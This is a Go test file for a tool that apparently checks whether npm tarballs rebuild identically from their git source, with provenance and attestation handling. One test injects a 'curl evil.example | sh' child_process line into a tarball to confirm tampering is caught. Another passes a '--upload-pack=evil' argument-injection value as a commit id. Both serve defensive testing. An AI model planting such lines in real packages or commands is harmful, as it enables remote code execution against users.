package reproduce

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	vsa "github.com/in-toto/attestation/go/predicates/vsa/v1"
	ita1 "github.com/in-toto/attestation/go/v1"
	"google.golang.org/protobuf/encoding/protojson"

	"github.com/airlockdev/airlock/internal/npmtest"
	"github.com/airlockdev/airlock/internal/tardiff"
	"github.com/airlockdev/airlock/pack"
)

// repo makes a git repository of dir's files and returns its commit.
func repo(t *testing.T, dir string) string {
	t.Helper()
	env := testEnv(t)
	for _, args := range [][]string{
		{"init", "-q"},
		{"add", "-A", "-f", "."},
		{"-c", "user.name=test", "-c", "user.email=test@example.com", "commit", "-q", "-m", "release"},
	} {
		cmd := exec.Command("git", args...)
		cmd.Dir, cmd.Env = dir, env
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %s: %v\n%s", args[0], err, out)
		}
	}
	cmd := exec.Command("git", "rev-parse", "HEAD")
	cmd.Dir, cmd.Env = dir, env
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(out))
}

func testEnv(t *testing.T) []string {
	return []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir()}
}

// published are real packages with no build step: their files are their
// source, so a repository made of them must rebuild the same contents.
var published = []npmtest.Published{
	{Name: "semver", Version: "7.6.3", Integrity: "sha512-oVekP1cKtI+CTDvHWYFUcMtsK/00wmAEfyqKfNdARm8u1wNVhSgaX7A8d4UuIlUI5e84iEwOhs7ZPYRmzU9U6A=="},
	{Name: "chalk", Version: "5.3.0", Integrity: "sha512-dLitG79d+GV1Nb/VYcCDFivJeK1hiukt9QjRNVOsUtTy1rR1YJsmpGGTZ3qJos+uw7WmWF4wUwBd9jxjocFC2w=="},
	{Name: "express", Version: "4.21.1", Integrity: "sha512-YSFlK1Ee0/GC8QaO91tHcDxJiE/X4FbpAyQWkxAvG6AXCuR65YzK8ua6D9hvi/TzUfZMpc+BwuM1IPw8fmQBiQ=="},
	{Name: "ws", Version: "8.18.0", Integrity: "sha512-8VbfWfHLbbwu3+N6OKsOMpBdT4kXPDDB9cJk2bJ6mh9ucxdlnNvH1e+roYkKmN9Nxw2yjz7VzeO9oOz2zJ04Pw=="},
	{Name: "lodash", Version: "4.17.21", Integrity: "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg=="},
	// debug@2.6.9 is not here: an npm of 2017 packed its .npmignore,
	// which npm now leaves out, so it does not reproduce with today's
	// rules (TestOldNPMDoesNotReproduce).
}

func TestOldNPMDoesNotReproduce(t *testing.T) {
	p := npmtest.Published{Name: "debug", Version: "2.6.9", Integrity: "sha512-bC7ElrdJaJnPbAP+1EotYvqZsb3ecl5wi6Bfi6BJTUcNowp6cvspg0jXznRTKDjm/E7AdgFBVeAPVMNcKGsHMA=="}
	tgz := npmtest.Fetch(t, p)
	data, _ := os.ReadFile(tgz)
	src := npmtest.Extract(t, tgz)
	r, err := run(t, data, Options{GitURL: src, Commit: repo(t, src), Env: testEnv(t), TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	// .npmignore is tracked: not from a build, not tampered, just left
	// out by the rebuild.
	if r.Reproduced || !slices.Equal(r.OnlyInTarball, []string{".npmignore"}) || len(r.Tampered)+len(r.FromBuild) != 0 {
		t.Fatalf("%+v", r)
	}
}

func TestPublishedReproduce(t *testing.T) {
	for _, p := range published {
		t.Run(p.String(), func(t *testing.T) {
			tgz := npmtest.Fetch(t, p)
			data, err := os.ReadFile(tgz)
			if err != nil {
				t.Fatal(err)
			}
			src := npmtest.Extract(t, tgz)
			commit := repo(t, src)
			r, err := run(t, data, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
			if err != nil {
				t.Fatal(err)
			}
			if !r.Reproduced || r.Commit != commit || !r.Git {
				var b strings.Builder
				WriteText(&b, r)
				t.Fatalf("not reproduced from %s:\n%s", commit, b.String())
			}
		})
	}
}

// repackWith rewrites a tarball with one file's contents replaced, as a
// pack job would after checkout.
func repackWith(t *testing.T, data []byte, path string, content []byte) []byte {
	t.Helper()
	zr, err := gzip.NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(zr)
	var out bytes.Buffer
	zw := gzip.NewWriter(&out)
	tw := tar.NewWriter(zw)
	found := false
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(tr)
		if strings.SplitN(h.Name, "/", 2)[1] == path {
			body, found = content, true
			h.Size = int64(len(body))
		}
		tw.WriteHeader(h)
		tw.Write(body)
	}
	tw.Close()
	zw.Close()
	if !found {
		t.Fatalf("no %s in the tarball", path)
	}
	return out.Bytes()
}

func TestTamperedAfterPacking(t *testing.T) {
	p := published[0]
	tgz := npmtest.Fetch(t, p)
	data, _ := os.ReadFile(tgz)
	src := npmtest.Extract(t, tgz)
	commit := repo(t, src)
	orig, _ := os.ReadFile(filepath.Join(src, "index.js"))
	bad := repackWith(t, data, "index.js", append(orig, []byte("\nrequire('child_process').exec('curl evil.example | sh')\n")...))
	r, err := run(t, bad, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if r.Reproduced {
		t.Fatal("a tarball with a file changed after packing reproduced")
	}
	if !slices.Equal(r.Tampered, []string{"index.js"}) || len(r.Changed) != 1 || !strings.Contains(r.Changed[0].Patch, "+require('child_process')") {
		t.Fatalf("tampered %v, changed %+v", r.Tampered, r.Changed)
	}
	if got := r.Summary(); got != "1 file tracked by git with other contents, 1 file changed" {
		t.Errorf("summary %q", got)
	}
}

// A package whose build makes dist/: without --run-scripts the built
// files cannot be checked; with it they are.
func TestBuildOutput(t *testing.T) {
	src := t.TempDir()
	write := func(name, content string) {
		os.MkdirAll(filepath.Dir(filepath.Join(src, name)), 0o755)
		if err := os.WriteFile(filepath.Join(src, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("package.json", `{"name":"built","version":"1.0.0","main":"dist/index.js","files":["dist"],"scripts":{"prepack":"node build.js"}}`)
	write("build.js", `require('fs').mkdirSync('dist',{recursive:true});require('fs').writeFileSync('dist/index.js','module.exports = 42;\n');`)
	write(".gitignore", "dist/\n")
	commit := repo(t, src)
	// --run-scripts runs the build with node: it must be here.
	if _, err := exec.LookPath("node"); err != nil {
		t.Fatalf("node is needed to run the package's build: %v", err)
	}
	// The release, as its build packed it.
	tarball := tarOf(t, map[string]string{
		"package.json":  `{"name":"built","version":"1.0.0","main":"dist/index.js","files":["dist"],"scripts":{"prepack":"node build.js"}}`,
		"dist/index.js": "module.exports = 42;\n",
	})

	r, err := run(t, tarball, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if r.Reproduced || !slices.Equal(r.FromBuild, []string{"dist/index.js"}) || !slices.Equal(r.Scripts, []string{"prepack"}) || r.ScriptsRun {
		t.Fatalf("without scripts: reproduced %v, from build %v, scripts %v run %v", r.Reproduced, r.FromBuild, r.Scripts, r.ScriptsRun)
	}
	var b strings.Builder
	WriteText(&b, r)
	if !strings.Contains(b.String(), "could not be checked: made by the build (prepack did not run; --run-scripts runs them") {
		t.Errorf("report:\n%s", b.String())
	}

	r, err = run(t, tarball, Options{GitURL: src, Commit: commit, RunScripts: true, Env: testEnv(t), TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if !r.Reproduced || !r.ScriptsRun {
		var b strings.Builder
		WriteText(&b, r)
		t.Fatalf("with scripts:\n%s", b.String())
	}
}

func tarOf(t *testing.T, files map[string]string) []byte {
	var out bytes.Buffer
	zw := gzip.NewWriter(&out)
	tw := tar.NewWriter(zw)
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	slices.Sort(names)
	for _, n := range names {
		tw.WriteHeader(&tar.Header{Name: "package/" + n, Mode: 0o644, Size: int64(len(files[n])), Typeflag: tar.TypeReg, ModTime: time.Unix(499162500, 0)})
		tw.Write([]byte(files[n]))
	}
	tw.Close()
	zw.Close()
	return out.Bytes()
}

func TestSourceFolderWithoutGit(t *testing.T) {
	src := t.TempDir()
	os.WriteFile(filepath.Join(src, "package.json"), []byte(`{"name":"plain","version":"1.0.0"}`), 0o644)
	os.WriteFile(filepath.Join(src, "a.js"), []byte("1\n"), 0o644)
	tarball := tarOf(t, map[string]string{"package.json": `{"name":"plain","version":"1.0.0"}`, "a.js": "2\n", "extra.js": "3\n"})
	r, err := run(t, tarball, Options{Dir: src, Env: testEnv(t), TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if r.Reproduced || r.Git || len(r.FromBuild) != 0 || !slices.Equal(r.OnlyInTarball, []string{"extra.js"}) || len(r.Changed) != 1 {
		t.Fatalf("%+v", r)
	}
}

func TestPackageInSubfolder(t *testing.T) {
	src := t.TempDir()
	os.MkdirAll(filepath.Join(src, "packages", "one"), 0o755)
	os.WriteFile(filepath.Join(src, "package.json"), []byte(`{"name":"mono","private":true}`), 0o644)
	os.WriteFile(filepath.Join(src, "packages", "one", "package.json"), []byte(`{"name":"one","version":"1.0.0"}`), 0o644)
	commit := repo(t, src)
	tarball := tarOf(t, map[string]string{"package.json": `{"name":"one","version":"1.0.0"}`})
	r, err := run(t, tarball, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if !r.Reproduced || r.Subdir != "packages/one" {
		t.Fatalf("reproduced %v in %q", r.Reproduced, r.Subdir)
	}
}

func TestBadCommit(t *testing.T) {
	_, err := run(t, tarOf(t, map[string]string{"package.json": `{"name":"x","version":"1.0.0"}`}),
		Options{GitURL: t.TempDir(), Commit: "--upload-pack=evil", Env: testEnv(t), TempDir: t.TempDir()})
	if err == nil || !strings.Contains(err.Error(), "is not a commit id") {
		t.Fatalf("err = %v", err)
	}
}

func TestSourceOf(t *testing.T) {
	// The real provenance of sigstore@1.3.0: a v0.1 statement with an
	// SLSA v0.2 predicate.
	bundle, err := os.ReadFile("../../attest/testdata/sigstore-1.3.0.sigstore.json")
	if err != nil {
		t.Fatal(err)
	}
	url, commit, err := SourceOf(bundle)
	if err != nil || url != "https://github.com/sigstore/sigstore-js" || commit != "dae8bd8eb433a4147b4655c00fe73e0f22bc0fb1" {
		t.Fatalf("SourceOf = %q, %q, %v", url, commit, err)
	}
	// npm's SLSA v1 statement on GitHub Actions.
	stmt := `{"_type":"https://in-toto.io/Statement/v1","subject":[{"name":"pkg:npm/x@1.0.0","digest":{"sha512":"00"}}],` +
		`"predicateType":"https://slsa.dev/provenance/v1","predicate":{"buildDefinition":{"buildType":"https://slsa-framework.github.io/github-actions-buildtypes/workflow/v1",` +
		`"externalParameters":{"workflow":{"ref":"refs/tags/v1.0.0","repository":"https://github.com/acme/widget","path":".github/workflows/release.yml"}},` +
		`"internalParameters":{"github":{"event_name":"push"}},"resolvedDependencies":[{"uri":"git+https://github.com/acme/widget@refs/tags/v1.0.0",` +
		`"digest":{"gitCommit":"0123456789abcdef0123456789abcdef01234567"}}]},"runDetails":{"builder":{"id":"https://github.com/actions/runner/github-hosted"},"metadata":{"invocationId":"x"}}}}`
	b, _ := json.Marshal(map[string]any{"dsseEnvelope": map[string]string{"payload": base64.StdEncoding.EncodeToString([]byte(stmt))}})
	url, commit, err = SourceOf(b)
	if err != nil || url != "https://github.com/acme/widget" || commit != "0123456789abcdef0123456789abcdef01234567" {
		t.Fatalf("SourceOf(v1) = %q, %q, %v", url, commit, err)
	}
	b, _ = json.Marshal(map[string]any{"dsseEnvelope": map[string]string{"payload": base64.StdEncoding.EncodeToString([]byte(strings.Replace(stmt, "gitCommit", "sha256", 1)))}})
	if _, _, err := SourceOf(b); err != ErrNoSource {
		t.Fatalf("no commit: %v", err)
	}
}

func TestSummary(t *testing.T) {
	sum := bytes.Repeat([]byte{0xab}, 64)
	for _, reproduced := range []bool{true, false} {
		out, err := Summary(SummaryInput{PackageURL: "pkg:npm/%40acme/widget@1.0.0", SHA512: sum, Result: &Result{Reproduced: reproduced},
			Time: time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC), ToolVersion: "v1.2.3", Inputs: []Input{{URI: "bundle.json", SHA256: make([]byte, 32)}}})
		if err != nil {
			t.Fatal(err)
		}
		var st ita1.Statement
		if err := protojson.Unmarshal(out, &st); err != nil {
			t.Fatal(err)
		}
		if err := st.Validate(); err != nil || st.GetPredicateType() != VSAPredicateType || st.GetSubject()[0].GetDigest()["sha512"] != strings.Repeat("ab", 64) {
			t.Fatalf("statement %v: %s", err, out)
		}
		raw, _ := protojson.Marshal(st.GetPredicate())
		var p vsa.VerificationSummary
		if err := (protojson.UnmarshalOptions{DiscardUnknown: true}).Unmarshal(raw, &p); err != nil {
			t.Fatal(err)
		}
		wantResult, wantLevels := "FAILED", 0
		if reproduced {
			wantResult, wantLevels = "PASSED", 1
		}
		if p.GetVerificationResult() != wantResult || len(p.GetVerifiedLevels()) != wantLevels || p.GetResourceUri() != "pkg:npm/%40acme/widget@1.0.0" ||
			p.GetTimeVerified().AsTime() != time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC) || len(p.GetInputAttestations()) != 1 {
			t.Fatalf("predicate %v", &p)
		}
		if reproduced && p.GetVerifiedLevels()[0] != LevelReproduced {
			t.Fatalf("levels %v", p.GetVerifiedLevels())
		}
		if !strings.Contains(string(out), `"airlock": "v1.2.3"`) {
			t.Errorf("no verifier version in %s", out)
		}
	}
}

// FuzzSourceOf: whatever a bundle holds, SourceOf either names a commit
// id and a URL without the ref npm appends, or fails.
func FuzzSourceOf(f *testing.F) {
	for _, stmt := range []string{
		`{"_type":"https://in-toto.io/Statement/v1","predicateType":"https://slsa.dev/provenance/v1","predicate":{"buildDefinition":{"resolvedDependencies":[{"uri":"git+https://github.com/a/b@refs/heads/main","digest":{"gitCommit":"0123456789abcdef0123456789abcdef01234567"}}]}}}`,
		`{"_type":"https://in-toto.io/Statement/v0.1","predicateType":"https://slsa.dev/provenance/v0.2","predicate":{"materials":[{"uri":"git+https://gitlab.com/g/p","digest":{"sha1":"0123456789abcdef0123456789abcdef01234567"}}]}}`,
		`{"_type":"https://in-toto.io/Statement/v1","predicate":null}`,
	} {
		b, _ := json.Marshal(map[string]any{"dsseEnvelope": map[string]string{"payload": base64.StdEncoding.EncodeToString([]byte(stmt))}})
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, bundle []byte) {
		url, commit, err := SourceOf(bundle)
		if err != nil {
			return
		}
		if !commitID.MatchString(commit) || url == "" || strings.HasPrefix(url, "git+") {
			t.Fatalf("SourceOf = %q, %q", url, commit)
		}
	})
}

// A pnpm workspace package is rebuilt as pnpm publishes it: its
// workspace: dependency becomes the version of the package it names.
func TestPNPMWorkspace(t *testing.T) {
	src := t.TempDir()
	for name, content := range map[string]string{
		"package.json":            `{"name":"mono","private":true}`,
		"pnpm-workspace.yaml":     "packages:\n  - packages/*\n",
		"packages/a/package.json": `{"name":"@mono/a","version":"1.0.0","dependencies":{"@mono/b":"workspace:^"}}`,
		"packages/a/index.js":     "module.exports = require('@mono/b');\n",
		"packages/b/package.json": `{"name":"@mono/b","version":"2.3.4"}`,
		"packages/b/index.js":     "module.exports = 1;\n",
	} {
		p := filepath.Join(src, filepath.FromSlash(name))
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte(content), 0o644)
	}
	commit := repo(t, src)
	dest := t.TempDir()
	res, err := pack.PackWorkspaces(t.Context(), src, pack.WorkspaceOptions{Options: pack.Options{Destination: dest, IgnoreScripts: true}, Select: []string{"@mono/a"}})
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(res.Packed[0].Tarball)
	if err != nil {
		t.Fatal(err)
	}
	r, err := run(t, data, Options{GitURL: src, Commit: commit, Env: testEnv(t), TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if !r.Reproduced || r.Manager != "pnpm" || r.Subdir != "packages/a" {
		var b strings.Builder
		WriteText(&b, r)
		t.Fatalf("manager %q, path %q:\n%s", r.Manager, r.Subdir, b.String())
	}
}

// run reads tarball as the commands do, then rebuilds it.
func run(t *testing.T, tarball []byte, o Options) (*Result, error) {
	t.Helper()
	pub, err := tardiff.Read(t.Context(), "tarball", tarball, o.Limits)
	if err != nil {
		t.Fatalf("reading the tarball: %v", err)
	}
	return Run(t.Context(), pub, o)
}
